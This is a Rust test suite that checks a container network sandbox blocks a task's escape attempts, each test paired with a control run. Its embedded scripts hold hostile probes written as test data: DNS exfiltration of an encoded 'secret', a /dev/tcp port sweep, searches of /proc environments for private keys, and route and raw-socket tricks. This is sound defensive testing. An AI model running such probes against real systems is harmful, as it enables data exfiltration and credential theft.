//! From inside a task, forbidden targets are unreachable. Each test has its control.

use std::collections::BTreeSet;
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use e2e_tests::DEADLINE;
use e2e_tests::assert_held;
use e2e_tests::engine;
use e2e_tests::fixture::{self, Fixture, read_until};
use e2e_tests::host::{self, HostService};
use e2e_tests::setting::Setting;
use e2e_tests::world::{IcmpSink, ORIGIN, SINK, UdpSink};
use sandbox::diagnostics::Role;
use sandbox::{Input, Network};
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt as _;

const POLICY: &str = "domains: [open.test]";

/// The host's address on the link to the test network.
const HOST: &str = "203.0.113.254";

async fn probe(fixture: &Fixture, arguments: &str) -> String {
    let ran = fixture.run(POLICY, &format!("/probe {arguments}")).await;
    assert_eq!(ran.code, 0, "the probe could not run: {}", ran.stderr);
    ran.stdout
}

/// Whether an outcome of the probe shows a response.
fn answered(outcome: &str) -> bool {
    assert!(outcome.contains("\"outcome\""), "the probe printed no outcome: {outcome}");
    outcome.contains("\"reached\"") || outcome.contains("\"refused\"")
}

#[tokio::test(flavor = "multi_thread")]
async fn host_services_are_unreachable_over_ipv4() {
    let fixture = Fixture::new().await;
    let service = HostService::start();
    for address in [HOST, "10.88.0.1", "169.254.1.2"] {
        let outcome = probe(&fixture, &format!("tcp {address} {}", service.port())).await;
        assert_held!(!answered(&outcome), "{address}: {outcome}");
    }
    // The first address of the task's own network, where a bridge would have its gateway.
    let script = format!(
        "ip -4 -o addr show scope global | awk '{{print $4}}'; /probe tcp $(ip -4 -o addr show scope global | awk '{{print $4}}' | sed 's/\\.[0-9]*\\/.*//').1 {}",
        service.port()
    );
    let ran = fixture.run(POLICY, &script).await;
    assert_held!(!answered(&ran.stdout), "{}", ran.stdout);
    fixture.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn control_unrestricted_task_reaches_host_services() {
    let fixture = Fixture::new().await;
    let service = HostService::start();
    let spec = fixture
        .command(POLICY, &["/probe", "tcp", HOST, &service.port().to_string()])
        .network(Network::Unrestricted);
    let ran = fixture.run_spec(spec).await;
    assert!(answered(&ran.stdout), "{}", ran.stdout);
    fixture.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn podman_names_of_the_host_are_unreachable() {
    let fixture = Fixture::new().await;
    let service = HostService::start();
    for name in ["host.containers.internal", "host.docker.internal"] {
        let script = format!(
            "for address in $(getent ahostsv4 {name} | awk '{{print $1}}' | sort -u); do /probe tcp $address {}; done; echo '\"outcome\"'",
            service.port()
        );
        let ran = fixture.run(POLICY, &script).await;
        assert_held!(!ran.stdout.contains("\"reached\""), "{name}: {}", ran.stdout);
    }
    fixture.close().await;
}

/// The outcomes for a task that tries `port` at the link-local addresses of its own bridge and of
/// all others.
async fn with_link_local(fixture: &Fixture, port: u16) -> Vec<String> {
    let spec = fixture.command(
        POLICY,
        &[
            "bash",
            "-c",
            "echo ready; while read address; do /probe tcp $address PORT; done"
                .replace("PORT", &port.to_string())
                .as_str(),
        ],
    );
    let command = fixture.sandbox.create_command(spec).expect("a good command");
    let (mut writer, reader) = tokio::io::duplex(4096);
    let mut execution = command.execute(Input::Reader(Box::new(reader)));
    read_until(&mut execution, |output| output.contains("ready")).await;
    let (_, bridge) = task_and_bridge(fixture).await;
    let own = link_local_address_of(bridge).await;
    // Those of other bridges, too.
    let mut addresses: BTreeSet<String> = tokio::task::spawn_blocking(host::link_local_addresses)
        .await
        .expect("the host's addresses")
        .into_iter()
        .filter(|(_, name)| name.starts_with("podman"))
        .map(|(address, _)| address.to_string())
        .collect();
    addresses.insert(own);
    for address in &addresses {
        writer.write_all(format!("{address}\n").as_bytes()).await.expect("the task reads");
    }
    drop(writer);
    let result = execution.await.expect("the sandbox works");
    assert_eq!(result.exit_code, 0);
    let output = String::from_utf8_lossy(&result.stdout);
    let outcomes: Vec<String> = output.lines().skip(1).map(str::to_owned).collect();
    assert_eq!(outcomes.len(), addresses.len(), "each address was tried: {outcomes:?}");
    outcomes
}

/// The id of the fixture's task, and the name of the bridge that it is on.
async fn task_and_bridge(fixture: &Fixture) -> (String, String) {
    let task = fixture.container(Role::Task).await;
    let facts = engine::json("GET", &format!("/containers/{task}/json"), None).await;
    let networks = facts.pointer("/NetworkSettings/Networks").and_then(Value::as_object);
    let network = networks.and_then(|all| all.keys().next()).expect("a task has a network");
    let network = engine::json("GET", &format!("/networks/{network}/json"), None).await;
    let text = |value: &Value, key| value.get(key).and_then(Value::as_str).expect("text").to_owned();
    (text(&facts, "Id"), text(&network, "network_interface"))
}

#[tokio::test(flavor = "multi_thread")]
async fn host_services_are_unreachable_over_ipv6_link_local() {
    let fixture = Fixture::new().await;
    let service = HostService::start();
    for outcome in with_link_local(&fixture, service.port()).await {
        assert_held!(!answered(&outcome), "{outcome}");
    }
    let addresses = fixture.run(POLICY, "cat /proc/net/if_inet6 2>/dev/null; cat /proc/sys/net/ipv6/conf/*/disable_ipv6 | sort -u; echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6 || echo refused").await;
    assert_held!(!addresses.stdout.contains('0'), "the task has IPv6: {}", addresses.stdout);
    assert_eq!(addresses.stdout, "1\nrefused\n", "{}", addresses.stderr);
    fixture.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn control_ipv6_on_an_internal_network_reaches_the_host() {
    let service = HostService::start();
    let network = format!("e2e-control-{}", service.port());
    let body = json!({"name": network, "driver": "bridge", "internal": true, "dns_enabled": false,
        "subnets": [{"subnet": format!("10.198.{}.0/24", service.port() % 250)}]});
    let made = engine::json("POST", "/networks/create", Some(&body)).await;
    let bridge = made["network_interface"].as_str().expect("a bridge").to_owned();
    let on_it = json!({"netns": {"nsmode": "bridge"}, "Networks": {network.clone(): {}}, "networks": {network.clone(): {}}});
    let holder = tokio::spawn({
        let mut named = on_it.clone();
        engine::merge(&mut named, &json!({"name": network}));
        async move { engine::weakened(&["sleep", "600"], &named).await }
    });
    let address = link_local_address_of(bridge).await;
    let port = service.port().to_string();
    let outcome = engine::weakened(&["--after", "4", "tcp", &address, &port], &on_it).await;
    let reached = answered(&outcome);
    engine::call("DELETE", &format!("/containers/{network}?force=true&timeout=0"), None).await;
    holder.await.expect("the container that keeps the bridge up");
    engine::call("DELETE", &format!("/networks/{network}?force=true"), None).await;
    assert!(
        reached,
        "without the guard the host is reachable over the bridge's link-local address: {outcome}"
    );
}

/// The bridge exists only while a container is connected to it.
async fn link_local_address_of(bridge: String) -> String {
    tokio::task::spawn_blocking(move || {
        let begun = Instant::now();
        loop {
            let addresses = host::link_local_addresses();
            match addresses.into_iter().find(|(_, name)| *name == bridge) {
                Some((address, _)) => return address.to_string(),
                None => assert!(begun.elapsed() < DEADLINE, "{bridge} has no address"),
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    })
    .await
    .expect("the host's addresses")
}

#[tokio::test(flavor = "multi_thread")]
async fn udp_and_icmp_to_the_outside_are_dropped() {
    let fixture = Fixture::new().await;
    let sink = UdpSink::bind(SINK);
    let echoes = IcmpSink::bind(SINK);
    // Directly, and with the proxy as a router, for a task that could change routes.
    let script = format!(
        "/probe udp {} 5; /probe icmp {SINK} 5; ip route add default via $(awk '/nameserver/ {{print $2}}' /etc/resolv.conf) 2>&1; \
         /probe udp {} 5; /probe tcp {SINK} 80 --device eth0; /probe udp {}:53 5",
        sink.address(),
        sink.address(),
        Ipv4Addr::new(203, 0, 113, 10),
    );
    let ran = fixture.run(POLICY, &script).await;
    assert_eq!(ran.stdout.matches("\"outcome\"").count(), 5, "each attempt was made: {}", ran.stdout);
    assert_held!(sink.count() == 0 && echoes.count() == 0, "{}", ran.stdout);

    let spec = fixture.command(POLICY, &["bash", "-c", &script]).network(Network::Unrestricted);
    let control = fixture.run_spec(spec).await;
    assert!(sink.count() > 0, "the control reaches the sink: {}", control.stdout);
    let outcome = engine::weakened(&["icmp", &SINK.to_string(), "3"], &json!({"cap_add": ["NET_RAW"]})).await;
    assert!(echoes.count() > 0, "the control: with a raw socket the echo arrives: {outcome}");
    fixture.close().await;
}

/// For each port that it reads, sends datagrams to each of `TARGETS` in all unprivileged ways:
/// normally, without routes, from a socket bound to an interface, and through an interface named in
/// the message. Writes the results.
const DATAGRAMS: &str = r"
import errno, socket, struct, sys, time
def send(way, address, port):
    number, device = next(found for found in socket.if_nameindex() if found[1] != 'lo')
    with socket.socket(type=socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        if way == 'unrouted': sock.setsockopt(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)
        if way == 'bound': sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode() + b'\0')
        named = [(socket.IPPROTO_IP, 8, struct.pack('=iII', number, 0, 0))] if way == 'named' else []
        try: return sock.sendmsg([way.encode()], named, 0, (address, port)) and 'sent'
        except OSError as error: return errno.errorcode[error.errno]
for line in sys.stdin:
    found = set()
    # The first of them wait for the neighbour's hardware address.
    for _ in range(3):
        found |= {way + ' ' + send(way, address, int(line)) for way in ['usual', 'unrouted', 'bound', 'named'] for address in TARGETS}
        time.sleep(1)
    print('tried', line.strip(), sorted(found), flush=True)
";

/// Without its filter, a task on an engine without reverse path filtering (`rp_filter`) can send
/// datagrams to any address of the host.
#[tokio::test(flavor = "multi_thread")]
async fn datagrams_to_the_host_are_dropped_for_every_socket() {
    let fixture = Fixture::new().await;
    let sink = || host::inside(|| UdpSink::bind(Ipv4Addr::UNSPECIFIED));
    let (sandboxed, unfiltered) = (sink(), sink());
    let everybody = [Ipv4Addr::BROADCAST, Ipv4Addr::new(224, 0, 0, 1)];
    let targets: Vec<String> =
        host::addresses().into_iter().chain(everybody).map(|target| target.to_string()).collect();
    assert!(targets.iter().any(|target| target == HOST), "{targets:?}");
    let script = DATAGRAMS.replace("TARGETS", &json!(targets).to_string());
    let command = fixture.sandbox.create_command(fixture.command(POLICY, &["python3", "-c", &script]));
    let (mut writer, reader) = tokio::io::duplex(64);
    let mut execution = command.expect("a good command").execute(Input::Reader(Box::new(reader)));
    let mut attempt = async |sink: &UdpSink| {
        let port = sink.address().port();
        writer.write_all(format!("{port}\n").as_bytes()).await.expect("the task reads");
        read_until(&mut execution, |output| output.contains(&format!("tried {port}"))).await
    };
    let outcome = attempt(&sandboxed).await;
    for expected in ["'bound EPERM'", "'named EPERM'", "'unrouted "] {
        assert!(outcome.contains(expected), "{outcome}");
    }
    assert_held!(!outcome.contains("sent"), "{outcome}");

    let (task, bridge) = task_and_bridge(&fixture).await;
    host::set(&format!("ipv4/conf/{bridge}/rp_filter"), "0");
    let script = [engine::WITHOUT_FILTER, "print(without_filter())"].concat();
    let within = json!({"image": Setting::of_this_run().clients_image, "entrypoint": [],
        "command": ["python3", "-c", script], "cap_add": ["NET_ADMIN"], "netns": {"nsmode": "container", "value": task}});
    assert_eq!(engine::printed(&within).await.trim(), "removed");
    let control = attempt(&unfiltered).await;
    assert!(control.contains("'bound sent'") && control.contains("'named sent'"), "{control}");
    assert!(unfiltered.count() > 0, "{control}");
    assert_held!(sandboxed.count() == 0, "{outcome}");
    drop(writer);
    execution.await.expect("the sandbox works");
    fixture.close().await;
}

/// Sends an echo request to each address with each kind of socket, and prints the results.
const PING: &str = r"
python3 - $TARGETS <<'EOF'
import errno, socket, sys
def ping(kind, address):
    try:
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as sock:
            sock.settimeout(30)
            sock.sendto(bytes([8, 0, 0xf7, 0xfd, 0, 1, 0, 1]), (address, 0))
            # An answer has the type 0, eight bytes before its end.
            while sock.recv(2048)[-8] != 0: pass
            return 'answered'
    except TimeoutError: return 'silence'
    except OSError as error: return errno.errorcode[error.errno]
for address in sys.argv[1:]:
    if address == 'proxy':
        address = next(line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver'))
    print('ping', ping(socket.SOCK_DGRAM, address), 'raw', ping(socket.SOCK_RAW, address))
EOF";

/// microsandbox 0c13181a: the gateway answered echo requests regardless of its policy.
#[tokio::test(flavor = "multi_thread")]
async fn proxy_and_hosts_behind_it_cannot_be_pinged() {
    let fixture = Fixture::new().await;
    // Nothing else pings this address.
    let echoes = IcmpSink::bind(ORIGIN);
    let script = PING.replace("$TARGETS", &format!("proxy {ORIGIN}"));
    let ran = fixture.run(POLICY, &script).await;
    let tried = ran.stdout.matches("ping ").count();
    assert_eq!(tried, 2, "{}{}", ran.stdout, ran.stderr);
    assert_held!(!ran.stdout.contains("answered"), "{}", ran.stdout);
    assert_held!(echoes.count() == 0, "it arrived: {}", ran.stdout);
    let script = PING.replace("$TARGETS", &ORIGIN.to_string());
    let free = json!({"image": Setting::of_this_run().clients_image, "entrypoint": [], "command": ["bash", "-c", script],
        "cap_add": ["NET_RAW"]});
    let control = engine::printed(&free).await;
    assert!(control.contains("raw answered"), "{control}");
    assert!(echoes.count() > 0, "{control}");
    fixture.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn dns_queries_never_leave_and_only_the_proxy_answers() {
    let fixture = Fixture::new().await;
    let script = "server=$(awk '/nameserver/ {print $2}' /etc/resolv.conf)
/probe dns $server:53 c2VjcmV0.exfiltrate.test 1
/probe dns $server:53 c2VjcmV0.exfiltrate.test 16
/probe dns $server:53 c2VjcmV0.exfiltrate.test 255 --tcp
/probe dns 203.0.113.10:53 open.test 1
/probe dns 203.0.113.10:53 open.test 1 --tcp";
    let ran = fixture.run(POLICY, script).await;
    let lines: Vec<&str> = ran.stdout.lines().collect();
    assert!(lines[0].contains("rcode 0 answers 1 address 10.199."), "{}", ran.stdout);
    assert!(
        lines[1].contains("rcode 0 answers 0") && lines[2].contains("rcode 0 answers 0"),
        "{}",
        ran.stdout
    );
    assert_held!(!answered(lines[3]) && !answered(lines[4]), "{}", ran.stdout);
    assert_eq!(ran.log_lines("DNS TXT c2VjcmV0.exfiltrate.test -> NODATA").len(), 1, "{}", ran.log);
    let spec = fixture
        .command(POLICY, &["/probe", "dns", "203.0.113.10:53", "open.test", "1"])
        .network(Network::Unrestricted);
    assert!(
        answered(&fixture.run_spec(spec).await.stdout),
        "the control reaches the name server of the test network"
    );
    fixture.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn only_three_ports_of_the_proxy_are_open() {
    let fixture = Fixture::new().await;
    let script = "server=$(awk '/nameserver/ {print $2}' /etc/resolv.conf)
for port in $(seq 1 1024) 3128 8080 8081 8443 9090; do (exec 3<>/dev/tcp/$server/$port) 2>/dev/null && echo $port; done; true";
    let ran = fixture.run(POLICY, script).await;
    let is_served = |port: &str| ["53", "80", "443"].contains(&port);
    assert_held!(ran.stdout.lines().all(is_served), "{}", ran.stdout);
    assert_eq!(ran.stdout, "53\n80\n443\n", "{}", ran.stderr);
    fixture.close().await;
}

/// Tries ports of the proxy one after the other, as fast as they are refused, for some seconds;
/// prints the duration, rounded up.
const PORTS: &str = "server=$(awk '/nameserver/ {print $2}' /etc/resolv.conf)
/probe tcp $server 80; /probe tcp $server 8081; /probe tcp $server 8082; /probe tcp $server 8083; echo x > /dev/udp/$server/443
begin=$SECONDS; while (( SECONDS - begin < 4 )); do (exec 3<>/dev/tcp/$server/$((9000 + RANDOM % 1000))) 2>/dev/null; done
echo took $((SECONDS + 1))";

#[tokio::test(flavor = "multi_thread")]
async fn closed_ports_refuse_at_once_and_are_logged_once_a_second() {
    let fixture = Fixture::new().await;
    let ran = fixture.run(POLICY, PORTS).await;
    assert_eq!(ran.stdout.matches("\"refused\"").count(), 3, "{}", ran.stdout);
    let took: usize =
        ran.stdout.rsplit("took ").next().and_then(|took| took.trim().parse().ok()).expect("a time");
    let records = ran.log_lines("BLOCKED PORT ");
    let of = |port: &str| records.iter().filter(|line| line.contains(&format!(" {port} -> refused"))).count();
    assert_eq!((of("8081/tcp"), of("443/udp"), of("80/tcp")), (1, 1, 0), "{}", ran.log);
    let connections = records.len() - of("443/udp");
    assert!(connections > 1, "later requests are recorded, too: {}", ran.log);
    assert!(connections <= took + 1, "once a second, for {took} seconds: {}", ran.log);
    fixture.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn two_tasks_cannot_reach_each_other() {
    let first = Fixture::new().await;
    let second = Fixture::new().await;
    // Each task prints its proxy's address, then tries the other's, and then, as the control, its
    // own.
    let script = "own=$(awk '/nameserver/ {print $2}' /etc/resolv.conf); echo $own; read other; \
         /probe tcp $other 80; echo control; /probe tcp $own 80; curl -sS https://open.test/mine";
    let (a, b) = tokio::join!(conversation(&first, script), conversation(&second, script));
    for output in [a, b] {
        let (other, own) = output.split_once("control").expect("both were tried");
        assert_held!(!answered(other), "{output}");
        assert!(answered(own), "{output}");
        assert!(own.contains("hello from open.test"), "{output}");
    }
    first.close().await;
    second.close().await;
}

/// Runs `script` and writes the proxy address printed by the other conversation to its stdin.
async fn conversation(fixture: &Fixture, script: &str) -> String {
    use std::sync::OnceLock;
    use tokio::sync::broadcast;
    static ADDRESSES: OnceLock<broadcast::Sender<String>> = OnceLock::new();
    let addresses = ADDRESSES.get_or_init(|| broadcast::Sender::new(8));
    let mut others = addresses.subscribe();
    let (mut writer, reader) = tokio::io::duplex(256);
    let spec = fixture.command(POLICY, &["bash", "-c", script]);
    let command = fixture.sandbox.create_command(spec).expect("a good command");
    let mut execution = command.execute(Input::Reader(Box::new(reader)));
    let printed = read_until(&mut execution, |output| output.contains('\n')).await;
    let own = printed.lines().next().expect("the task prints its proxy's address");
    let _ = addresses.send(own.to_owned());
    loop {
        let other = others.recv().await.expect("the other task prints its proxy's address");
        if other != own {
            let line = format!("{other}\n");
            writer.write_all(line.as_bytes()).await.expect("the task reads");
            break;
        }
    }
    let result = execution.await.expect("the sandbox works");
    String::from_utf8_lossy(&result.stdout).into_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn root_key_and_task_key_are_out_of_reach() {
    let fixture = Fixture::new().await;
    // The only mounts from the state folder are the container's own files, none of the authority's.
    let script = "grep -rl 'PRIVATE KEY' /run/sandbox /etc/ssl /usr/local/share 2>/dev/null; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c 'PRIVATE KEY'; \
         grep -c authority /proc/self/mountinfo; grep -q ' /run/sandbox' /proc/self/mountinfo && echo mounted; true";
    let ran = fixture.run(POLICY, script).await;
    // Prints the files that contain a key, and their number.
    let found = ran.stdout.lines().any(|line| !["0", "mounted"].contains(&line));
    assert_held!(!found, "{}", ran.stdout);
    assert_eq!(ran.stdout, "0\n0\nmounted\n", "{}", ran.stderr);
    let key = std::fs::read_to_string(fixture::state_dir().join("authority/root.pem"))
        .is_ok_and(|text| text.contains("PRIVATE KEY"));
    assert!(key, "the control: the root key is in the state folder of the host");
    fixture.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn killed_proxy_stops_all_traffic() {
    let fixture = Fixture::new().await;
    let script = "curl -sS --max-time 5 https://open.test/ && echo before; read go; \
         curl -sS --max-time 5 https://open.test/ && echo after; /probe tcp 203.0.113.10 443; echo end";
    let spec = fixture.command(POLICY, &["bash", "-c", script]);
    let command = fixture.sandbox.create_command(spec).expect("a good command");
    let (mut writer, reader) = tokio::io::duplex(64);
    let mut execution = command.execute(Input::Reader(Box::new(reader)));
    let before = read_until(&mut execution, |output| output.contains("before")).await;
    assert!(before.contains("before"), "a first request went through: {before}");
    let proxy = fixture.container(Role::Proxy).await;
    engine::call("POST", &format!("/containers/{proxy}/kill?signal=KILL"), None).await;
    writer.write_all(b"go\n").await.expect("the task reads");
    let result = execution.await.expect("a dead proxy is not a failure of the command");
    let output = String::from_utf8_lossy(&result.stdout);
    assert_held!(!output.contains("after"), "{output}");
    assert!(output.contains("end"), "{output}");
    assert_held!(!output.contains("\"reached\""), "{output}");
    let log = std::fs::read_to_string(fixture.folder().join("network-sandbox.log")).expect("a log");
    assert!(log.contains("WARNING"), "{log}");
    fixture.close().await;
}
